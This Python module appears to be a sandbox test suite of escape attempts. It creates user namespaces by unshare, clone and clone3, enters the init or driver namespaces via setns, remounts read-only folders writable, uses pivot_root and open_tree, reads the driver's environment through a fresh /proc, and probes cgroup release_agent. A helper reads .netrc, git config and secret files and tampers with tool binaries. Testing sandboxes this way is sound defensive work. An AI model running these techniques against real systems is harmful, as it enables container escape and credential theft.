"""Undoing the sandbox itself: namespaces, mounts, devices, kernel settings, rights."""

import ctypes
import os
import signal
import socket
import struct
import subprocess
from pathlib import Path

from support.attacks.kit import (
    AT_FDCWD,
    CLONE_NEWNS,
    CLONE_NEWUSER,
    Place,
    apart,
    attempt,
    call,
    claim,
    family,
    own_mounts,
    show,
    spoil,
    take,
    tried,
)

_MS_REMOUNT_BIND, _MS_BIND, _MS_REC = 0x1020, 0x1000, 0x4000


def _reach(at: Place) -> None:
    """Use what was won: read, change, and look behind what was hidden."""
    for path in (at.secret, f"{at.other}/code.py", f"{at.home}/.netrc", f"{at.work}/.git/config"):
        with tried():
            take(path)
    for path in (at.file, f"{at.tools}/bin/tool"):
        with tried():
            spoil(path)
    with tried():
        socket.create_connection(("127.0.0.1", at.ports["tcp4"]), timeout=1).close()


def _in_new_user(at: Place) -> None:
    uid, gid = os.getuid(), os.getgid()
    call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    with tried():
        Path("/proc/self/setgroups").write_text("deny", encoding="utf-8")
        Path("/proc/self/gid_map").write_text(f"0 {gid} 1", encoding="utf-8")
    Path("/proc/self/uid_map").write_text(f"0 {uid} 1", encoding="utf-8")
    claim(at, "a user namespace with all rights in it")


@attempt()
def nested_unshare(at: Place) -> None:
    """A user namespace of our own: every capability in it, and the kernel behind them."""
    _in_new_user(at)


@attempt()
def nested_unshare_by_program(at: Place) -> None:
    """The same by the program that each distribution has."""
    subprocess.run(
        ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", f"echo got >>{at.work}/claims"],
        check=False,
    )


@attempt()
def clone_into_new_user(at: Place) -> None:
    """The same by clone, which some filters forget."""
    child = call("clone", CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        claim(at, "a user namespace by clone")
        os._exit(0)
    os.waitpid(child, 0)


@attempt()
def clone3_into_new_user(at: Place) -> None:
    """And by clone3, whose flags no filter can see."""
    asked = ctypes.create_string_buffer(
        struct.pack("QQQQQQQQ", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    )
    child = call("clone3", asked, 64)
    if child == 0:
        claim(at, "a user namespace by clone3")
        os._exit(0)
    os.waitpid(child, 0)


@family(
    {"mnt": "mnt", "pid": "pid", "net": "net", "user": "user"}, inert="the first process may be out of reach"
)
def enter_namespace_of_init(at: Place, kind: str) -> None:
    """Go to where the first process is."""
    call("setns", os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0)
    _reach(at)


@attempt(root=True)
def enter_namespace_of_driver(at: Place) -> None:
    """Go to where the server is."""
    call("setns", os.open(f"/proc/{at.driver}/ns/mnt", os.O_RDONLY), 0)
    _reach(at)


@attempt(root=True)
def enter_namespaces_by_pidfd(at: Place) -> None:
    """All of them at once, by a descriptor of the process."""
    call("setns", os.pidfd_open(at.driver), CLONE_NEWNS)
    _reach(at)


@attempt()
def remount_writable(at: Place) -> None:
    """Take the read-only mark from what we may read."""
    own_mounts(at)
    for folder in (at.tools, "/", at.outside):
        with tried():
            call("mount", None, folder.encode(), None, _MS_REMOUNT_BIND, None)
    _reach(at)


@attempt()
def remount_by_program(at: Place) -> None:
    """With the mount program."""
    own_mounts(at)
    for folder in (at.tools, "/"):
        subprocess.run(["mount", "-o", "remount,rw,bind", folder], check=False, capture_output=True)
    _reach(at)


@attempt()
def mount_attributes(at: Place) -> None:
    """The same by the newer call."""
    own_mounts(at)
    wanted = struct.pack("QQQQ", 0, 1, 0, 0)  # clear MOUNT_ATTR_RDONLY
    for folder in (at.tools, "/"):
        with tried():
            call("mount_setattr", AT_FDCWD, folder.encode(), 0x8000, wanted, len(wanted))
    _reach(at)


@attempt()
def bind_elsewhere(at: Place) -> None:
    """Bind a read-only folder at another place, where nobody said read-only."""
    own_mounts(at)
    target = Path(at.work, "bound")
    target.mkdir()
    for source in (at.tools, "/"):
        with tried():
            call("mount", source.encode(), bytes(target), None, _MS_BIND | _MS_REC, None)
            call("mount", None, bytes(target), None, _MS_REMOUNT_BIND, None)
            spoil(f"{target}/bin/tool")
    _reach(at)


@attempt()
def unmount_what_hides(at: Place) -> None:
    """What hides a folder is a mount, and a mount can be taken off."""
    own_mounts(at)
    if apart(at):
        mounts = [
            line.split()[4] for line in Path("/proc/self/mountinfo").read_text(encoding="utf-8").splitlines()
        ]
        for folder in reversed(mounts):
            if folder not in ("/", "/proc"):
                with tried():
                    call("umount2", folder.encode(), 2)
    _reach(at)


@attempt()
def pivot_back(at: Place) -> None:
    """The old root may still be there, under the new one."""
    own_mounts(at)
    if apart(at):
        with tried():
            call("mount", at.work.encode(), at.work.encode(), None, _MS_BIND, None)
            old = Path(at.work, "old")
            old.mkdir()
            os.chdir(at.work)
            call("pivot_root", b".", b"old")
            spoil(f"/old{at.file}")
    for prefix in ("/old_root", "/oldroot", "/newroot", "/.old", "/proc/1/root"):
        with tried():
            spoil(prefix + at.file)
    with tried():
        spoil(at.file)


@attempt()
def tree_by_descriptor(at: Place) -> None:
    """Copy the tree of mounts to a descriptor and look there."""
    own_mounts(at)
    tree = call("open_tree", AT_FDCWD, b"/", 0x1 | 0x8000)
    here = f"/proc/self/fd/{tree}"
    with tried():
        call("mount_setattr", tree, b"", 0x9000, struct.pack("QQQQ", 0, 1, 0, 0), 32)
    with tried():
        take(here + at.secret)
    with tried():
        spoil(here + at.tools + "/bin/tool")
    call("move_mount", tree, b"", AT_FDCWD, at.work.encode(), 4)
    spoil(at.work + at.file)


@attempt(root=True)
def new_proc(at: Place) -> None:
    """A fresh /proc, without what was taken out of the old one."""
    own_mounts(at)
    context = call("fsopen", b"proc", 0)
    call("fsconfig", context, 6, None, None, 0)
    proc = call("fsmount", context, 0, 0)
    opened = os.open(f"{at.driver}/environ", os.O_RDONLY, dir_fd=proc)
    show(os.read(opened, 2**16))


@attempt(inert="a user namespace alone may not mount one")
def new_proc_old_way(at: Place) -> None:
    """The same by mount."""
    own_mounts(at)
    folder = Path(at.work, "proc")
    folder.mkdir()
    call("mount", b"proc", bytes(folder), b"proc", 0, None)
    take(f"{folder}/{at.driver}/environ")


@attempt(root=True)
def release_agent(at: Place) -> None:
    """The program that the kernel runs, outside, when a group is empty; opened for writing, not written."""
    own_mounts(at)
    folder = Path(at.work, "group")
    folder.mkdir()
    for controller in (b"freezer", b"memory", b"rdma", b"pids"):
        with tried():
            call("mount", b"cgroup", bytes(folder), b"cgroup", 0, controller)
            break
    for top in (folder, *Path("/sys/fs/cgroup").glob("*")):
        with tried():
            os.close(os.open(top / "release_agent", os.O_WRONLY))
            claim(at, f"{top}/release_agent open")
            return


@attempt(root=True)
def new_cgroup(at: Place) -> None:
    """A group of our own, with limits of our own."""
    for top in ("/sys/fs/cgroup/freezer", "/sys/fs/cgroup"):
        with tried():
            Path(top, f"pev-{at.token}").mkdir()
            return
